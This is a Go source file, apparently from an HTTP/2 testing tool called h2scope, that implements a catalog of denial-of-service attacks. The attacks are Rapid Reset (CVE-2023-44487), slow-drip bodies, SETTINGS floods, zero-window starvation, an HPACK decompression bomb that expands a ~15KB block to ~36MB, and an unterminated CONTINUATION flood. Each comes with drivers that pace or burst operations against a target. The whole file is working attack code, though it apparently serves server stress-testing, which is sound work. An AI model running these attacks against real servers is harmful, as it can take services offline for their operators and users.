package attack

import (
	"fmt"
	"time"

	"h2scope/internal/frame"
	"h2scope/internal/h2conn"
)

// scenario is one catalog entry: the options its attacker connections dial
// with, and start, which readies one connection and returns the attack's
// operation. op(i) sends operation i (from 0) on that connection; a driver
// calls it for i = 0, 1, 2, …: the Runner paced until its deadline, Burst a
// fixed number of times, unpaced. The catalog is the only place an attack
// shape is written.
type scenario struct {
	options func() h2conn.Options
	start   func(c *h2conn.Conn, p Params) (op func(i int64) error)
	// hold marks a scenario whose harm is the held connection, not the
	// pace: the Runner sends Rate operations at once, then keeps the
	// connection open until the deadline.
	hold bool
}

var scenarios = map[Kind]scenario{
	KindRapidReset:        {options: h2conn.DefaultOptions, start: rapidReset},
	KindSlowDrip:          {options: h2conn.DefaultOptions, start: slowDrip},
	KindSettingsFlood:     {options: h2conn.DefaultOptions, start: settingsFlood},
	KindZeroWindowStarve:  {options: zeroWindowOptions, start: zeroWindowStarve, hold: true},
	KindHPACKBomb:         {options: h2conn.DefaultOptions, start: hpackBomb},
	KindContinuationFlood: {options: continuationFloodOptions, start: continuationFlood},
}

// Options returns the connection options the attacker connections of kind,
// one of Kinds, dial with; Burst expects a connection dialed with them.
func Options(kind Kind) h2conn.Options { return scenarios[kind].options() }

// Burst runs kind's operation ops times on c, back to back — the loop the
// Runner paces, cut to a fixed count. It returns how many operations were
// sent and the write error that stopped the burst early, if one did.
func Burst(c *h2conn.Conn, kind Kind, p Params, ops int64) (sent int64, err error) {
	scn, ok := scenarios[kind]
	if !ok {
		return 0, fmt.Errorf("attack: unknown scenario %q", kind)
	}
	return scn.send(c, p.withDefaults(kind), ops, nil, time.Time{})
}

// send calls the scenario's operation on c up to n times, waiting on pace
// between operations when pace is non-nil. It returns the operations sent
// and the write error that ended the loop; nil when n or the deadline did.
func (s scenario) send(c *h2conn.Conn, p Params, n int64, pace *pacer, deadline time.Time) (int64, error) {
	op := s.start(c, p)
	for sent := int64(0); sent < n; {
		if err := op(sent); err != nil {
			return sent, err
		}
		sent++
		if pace != nil && !pace.wait(deadline) {
			return sent, nil
		}
	}
	return n, nil
}

// continuationFloodOptions disables the automatic SETTINGS/PING acks: the
// flood holds an unterminated header block open, and RFC 7540 section 6.10
// forbids any other frame (even an ACK) on the connection until it ends —
// an auto-ack mid-flood would end the attack with PROTOCOL_ERROR instead
// of exercising the server's CONTINUATION bound.
func continuationFloodOptions() h2conn.Options {
	return h2conn.Options{}
}

// rapidReset is the CVE-2023-44487 shape: open a stream, reset it
// immediately. Each operation costs the attacker two tiny frames and the
// server a full stream setup/teardown.
func rapidReset(c *h2conn.Conn, p Params) func(int64) error {
	req := h2conn.Request{Authority: p.Authority, Path: p.Path}
	return func(int64) error {
		id, err := c.OpenStream(req)
		if err != nil {
			return err
		}
		return c.WriteRSTStream(id, frame.ErrCodeCancel)
	}
}

// slowDripStreams is how many request bodies one drip connection holds open.
const slowDripStreams = 4

// slowDrip feeds up to slowDripStreams request bodies one byte at a time,
// round-robin, opening each body with its first byte — each stream stays
// perpetually almost-finished, pinning server state at negligible attacker
// cost. A burst of n < slowDripStreams drips holds n bodies open.
func slowDrip(c *h2conn.Conn, p Params) func(int64) error {
	req := h2conn.Request{Method: "POST", Authority: p.Authority, Path: p.Path}
	ids := make([]uint32, 0, slowDripStreams)
	drip := []byte{'.'}
	return func(i int64) error {
		if len(ids) < slowDripStreams {
			id, err := c.OpenStreamBody(req)
			if err != nil {
				return err
			}
			ids = append(ids, id)
		}
		return c.WriteData(ids[i%slowDripStreams], false, drip)
	}
}

// settingsFlood sends non-ACK SETTINGS frames; RFC 7540 obligates the
// server to acknowledge and apply every one.
func settingsFlood(c *h2conn.Conn, _ Params) func(int64) error {
	return func(int64) error {
		return c.WriteSettings(frame.Setting{
			ID:  frame.SettingInitialWindowSize,
			Val: frame.DefaultInitialWindowSize,
		})
	}
}

// zeroWindowOptions advertises a zero stream window, so the server can
// never send response DATA on any stream the scenario opens.
func zeroWindowOptions() h2conn.Options {
	return h2conn.Options{
		Settings: []frame.Setting{{ID: frame.SettingInitialWindowSize, Val: 0}},
		AutoAck:  true,
	}
}

// zeroWindowStarve requests a resource it never allows the server to
// deliver: the zero window pins every response (and its buffers) for the
// connection's whole lifetime. It is a hold scenario, so Rate is the
// stream count, not a pace.
func zeroWindowStarve(c *h2conn.Conn, p Params) func(int64) error {
	req := h2conn.Request{Authority: p.Authority, Path: p.Path}
	return func(int64) error {
		_, err := c.OpenStream(req)
		return err
	}
}

// bombValueLen and bombRefs shape the default HPACK bomb: one ~3KB entry
// (fits the RFC-default 4096-byte dynamic table) referenced 12,000 times —
// a ~15KB wire block decoding to ~36MB of header list.
const (
	bombValueLen = 3000
	bombRefs     = 12000
)

// hpackBomb sends the bomb block as a complete request header block; a
// guarded decoder rejects it with COMPRESSION_ERROR, an unguarded one
// materializes megabytes per request.
func hpackBomb(c *h2conn.Conn, _ Params) func(int64) error {
	block := hpackBombBlock(bombValueLen, bombRefs)
	return func(int64) error {
		return c.WriteHeadersRaw(c.NextStreamID(), block, true, true)
	}
}

// hpackBombBlock builds an encoded header block that inserts one
// valueLen-byte entry into the dynamic table (literal with incremental
// indexing) and then references it refs times (indexed representation,
// index 62 — the newest dynamic entry). The block amplifies roughly
// valueLen× between wire and decoded form, the RFC 7541 bomb shape.
// valueLen must leave the entry within the peer's dynamic table size
// (value + name + 32 octets, RFC 7541 section 4.1) or the references fail
// outright instead of amplifying.
func hpackBombBlock(valueLen, refs int) []byte {
	block := make([]byte, 0, valueLen+refs+16)
	// Literal header field with incremental indexing, new name (0x40).
	block = append(block, 0x40)
	name := "bomb"
	block = appendHpackInt(block, 7, 0, uint64(len(name)))
	block = append(block, name...)
	block = appendHpackInt(block, 7, 0, uint64(valueLen))
	for i := 0; i < valueLen; i++ {
		block = append(block, 'x')
	}
	// Indexed header field (0x80), index 62 = first dynamic-table slot.
	for i := 0; i < refs; i++ {
		block = appendHpackInt(block, 7, 0x80, 62)
	}
	return block
}

// appendHpackInt encodes n with the RFC 7541 section 5.1 N-bit prefix
// integer representation (first carries the representation's tag bits).
func appendHpackInt(dst []byte, prefixBits uint8, first byte, n uint64) []byte {
	limit := uint64(1)<<prefixBits - 1
	if n < limit {
		return append(dst, first|byte(n))
	}
	dst = append(dst, first|byte(limit))
	n -= limit
	for n >= 128 {
		dst = append(dst, byte(n&0x7f)|0x80)
		n >>= 7
	}
	return append(dst, byte(n))
}

// continuationChunk is the per-frame fragment size of the flood.
const continuationChunk = 1024

// continuationFlood starts a header block and never finishes it: operation
// 0 is the HEADERS frame, every later one a CONTINUATION, an endless
// sequence the server must either buffer or bound. The fragment bytes are
// never decoded (END_HEADERS never arrives), so their content is irrelevant.
func continuationFlood(c *h2conn.Conn, _ Params) func(int64) error {
	frag := make([]byte, continuationChunk)
	id := c.NextStreamID()
	return func(i int64) error {
		if i == 0 {
			return c.WriteHeadersRaw(id, frag, false, false)
		}
		return c.WriteRawFrame(frame.TypeContinuation, 0, id, frag)
	}
}
